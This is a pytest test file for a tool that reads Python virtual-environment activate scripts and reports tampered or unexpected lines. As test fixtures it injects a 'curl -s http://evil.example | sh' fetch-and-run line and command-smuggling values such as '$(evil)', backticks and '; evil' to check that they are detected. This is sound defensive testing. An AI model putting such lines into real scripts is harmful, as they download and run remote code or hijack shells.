"""Activate scripts: every template known, every value data, every other line told."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from envcheck.catalogue.activation import LANGUAGES, Activation, decode, read_activation
from support.pythons import Interpreter, interpreters
from support.venvs import make_venv, make_with_uv, make_with_virtualenv, quiet_environ

SUPPORTED = [found for found in interpreters() if found.minor >= (3, 8)]


def read_all(prefix: Path) -> dict[str, Activation]:
    """Every activate script of an environment, by name."""
    found = {}
    for path in sorted((prefix / "bin").iterdir()):
        activation = read_activation(path.name, path.read_bytes()) if not path.is_symlink() else None
        if activation is not None:
            found[path.name] = activation
    assert len(found) >= 4
    return found


@pytest.mark.parametrize("interpreter", SUPPORTED, ids=lambda found: found.text)
@pytest.mark.parametrize("name", ["env", "my env", "o'brien", "café", "per%cent", "a&b;c"])
def test_what_venv_of_each_version_writes_is_known(tmp_path: Path, interpreter: Interpreter, name: str) -> None:
    if not (Path(interpreter.path).parent.parent / "lib" / interpreter.name / "venv").is_dir():
        pytest.skip(f"{interpreter.path} has no venv")
    prefix = make_venv(tmp_path / name, interpreter).path
    for script, found in read_all(prefix).items():
        assert (found.tool, found.unknown) == ("venv", ()), script
        assert {setting.value for setting in found.settings if setting.kind == "dir"} <= {str(prefix)}, script


@pytest.mark.parametrize("name", ["env", "my env", "o'brien", "café"])
@pytest.mark.parametrize("options", [(), ("--prompt", "say hi"), ("--relocatable",)], ids=str)
def test_what_uv_writes_is_known(tmp_path: Path, interpreter: Interpreter, name: str, options: tuple[str, ...]) -> None:
    for script, found in read_all(make_with_uv(tmp_path / name, interpreter, *options).path).items():
        assert (found.tool, found.unknown) == ("uv", ()), script


@pytest.mark.parametrize("name", ["env", "my env", "o'brien", "café", "a$(b)`c`"])
@pytest.mark.parametrize("options", [(), ("--prompt", "say hi")], ids=str)
def test_what_virtualenv_writes_is_known(
    tmp_path: Path, interpreter: Interpreter, name: str, options: tuple[str, ...]
) -> None:
    prefix = make_with_virtualenv(tmp_path / name, interpreter, "--no-seed", *options).path
    for script, found in read_all(prefix).items():
        assert (found.tool, found.unknown) == ("virtualenv", ()), script


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, interpreter: Interpreter) -> Path:
    return make_venv(tmp_path_factory.mktemp("made") / "env", interpreter).path


@pytest.mark.parametrize("name", ["activate", "activate.csh", "activate.fish", "Activate.ps1"])
def test_an_added_line_is_told_with_its_number_wherever_it_stands(made: Path, name: str) -> None:
    lines = (made / "bin" / name).read_bytes().split(b"\n")
    for at in range(0, len(lines), 7):
        changed = b"\n".join([*lines[:at], b"curl -s http://evil.example | sh", *lines[at:]])
        found = read_activation(name, changed)
        assert found is not None
        assert [(unknown.line, unknown.text[:4]) for unknown in found.unknown] == [(at + 1, "curl")]


def test_a_command_behind_a_known_line_is_told(made: Path) -> None:
    lines = (made / "bin" / "activate").read_bytes().split(b"\n")
    for at, line in enumerate(lines):
        for addition in (b"; evil", b" && evil", b"`evil`", b"\r", b" #", b"\0"):
            found = read_activation("activate", b"\n".join([*lines[:at], line + addition, *lines[at + 1 :]]))
            assert found is not None
            assert [unknown.line for unknown in found.unknown] == [at + 1], (line, addition)


@pytest.mark.parametrize(
    "value",
    ["/srv/$(evil)", "/srv/`evil`", '/srv/"; evil; "', "/srv/${evil}", "/srv/x\\", "relative", "~/x", '"; evil; "/'],
)
def test_a_path_that_a_shell_would_expand_is_no_data(made: Path, value: str) -> None:
    text = (made / "bin" / "activate").read_text()
    found = read_activation("activate", text.replace(str(made), value).encode())
    assert found is not None
    assert found.unknown
    assert all(unknown.filled for unknown in found.unknown)


def test_known_lines_in_another_order_are_of_no_release(made: Path) -> None:
    lines = (made / "bin" / "activate").read_bytes().split(b"\n")
    found = read_activation("activate", b"\n".join([*lines[20:], *lines[:20]]))
    assert found is not None
    assert (found.tool, found.unknown) == (None, ())


def test_other_names_are_none_of_theirs() -> None:
    assert read_activation("activate.py", b"") is None
    assert read_activation("activate.sh", b"") is None


@pytest.mark.parametrize("size", [1 << 16, 10 << 20])
def test_a_large_file_is_not_read_line_by_line(size: int) -> None:
    found = read_activation("activate", b"x" * size + b"\n" * 9)
    assert found is not None
    assert len(found.unknown) == 1 and found.unknown[0].line == 1


@settings(max_examples=300)
@given(st.binary(max_size=400), st.sampled_from(sorted(LANGUAGES)))
def test_any_bytes_are_read(data: bytes, name: str) -> None:
    assert read_activation(name, data) is not None


@settings(max_examples=200)
@given(st.text(st.sampled_from("ab/ '\"$`\\();&|!#~%\u00e9"), max_size=12), st.sampled_from(["", "'", '"']))
def test_what_is_taken_for_data_is_data_to_a_real_shell(text: str, context: str) -> None:
    value = decode("sh", context, text)
    if value is None:
        return
    done = subprocess.run(
        ["/bin/sh", "-c", f"printf %s {context}{text}{context}"], env=quiet_environ(), capture_output=True, text=True
    )
    assert (done.returncode, done.stdout, done.stderr) == (0, value, "")
